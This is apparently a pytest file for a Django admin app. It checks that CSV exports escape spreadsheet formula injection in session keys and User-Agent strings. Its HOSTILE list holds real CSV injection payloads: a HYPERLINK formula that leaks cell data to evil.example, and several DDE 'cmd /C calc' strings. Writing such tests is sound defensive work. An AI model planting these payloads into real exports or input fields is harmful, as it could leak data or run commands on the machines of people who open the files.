"""Every CSV the app writes is safe to open in a spreadsheet (no formula injection) and reads back as written."""

import csv
import io

import pytest

from memoryadmin.audit.models import AuditEvent
from memoryadmin.dashboard.converters import encode_key
from memoryadmin.dashboard.downloads import streaming_csv

from .factories import write_langchain_session
from .test_bulk import start

pytestmark = pytest.mark.django_db

# What chat users and browsers can put in a session key or a User-Agent; each one a spreadsheet would run.
HOSTILE = [
    '=HYPERLINK("https://evil.example/?"&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    '=1+2";=1+2',
]


def body(response):
    return b"".join(response.streaming_content).decode()


def cells(text):
    return list(csv.reader(io.StringIO(text, newline="")))


def assert_neutralised(cell, stored):
    """The cell is the stored text behind a single quote, which spreadsheets read as "this is text"."""
    assert cell == "'" + stored


def test_the_shared_writer_quotes_every_field_and_neutralises_formulas():
    rows = [["header", "n"], *[[value, -1] for value in HOSTILE], ["plain, text", 3], ["'already quoted", 0]]
    text = body(streaming_csv(iter(rows), "x.csv"))
    read = cells(text)
    for (cell, number), value in zip(read[1 : 1 + len(HOSTILE)], HOSTILE):
        assert_neutralised(cell, value)
        assert number == "-1"  # numbers the app wrote itself stay numbers
    assert read[-2:] == [["plain, text", "3"], ["'already quoted", "0"]]
    # Every text field in quotes (OWASP): a separator inside a cell cannot start a new, unquoted one.
    assert text.splitlines()[0] == '"header","n"'
    assert text.splitlines()[-1] == '"\'already quoted",0'


def test_audit_csv_neutralises_session_keys_and_user_agents(admin_web, store):
    key, agent = HOSTILE[0], HOSTILE[3]
    write_langchain_session(store, key, ["hi"])
    admin_web.get(f"/sessions/{encode_key(key)}/", HTTP_USER_AGENT=agent)
    rows = list(csv.DictReader(io.StringIO(body(admin_web.get("/audit/export.csv", {"action": "session.read"})))))
    assert len(rows) == 1
    assert_neutralised(rows[0]["session_key"], key)
    assert_neutralised(rows[0]["user_agent"], agent)
    assert AuditEvent.objects.get(action="session.read").session_key == key  # stored as it was


def test_bulk_report_neutralises_session_keys(web, store):
    keys = ["-1+cmd|' /C calc'!A0", "@evil", "fine"]
    write_langchain_session(store, keys[0], ["hi"])
    job = start(web, action="clear", scope="selected", keys=keys)
    web.post(f"/bulk/{job.pk}/confirm/", {"typed": "3"})
    rows = list(csv.DictReader(io.StringIO(body(web.get(f"/bulk/{job.pk}/report.csv")))))
    assert [row["session_key"] for row in rows] == ["'-1+cmd|' /C calc'!A0", "'@evil", "fine"]
    assert [row["position"] for row in rows] == ["0", "1", "2"]
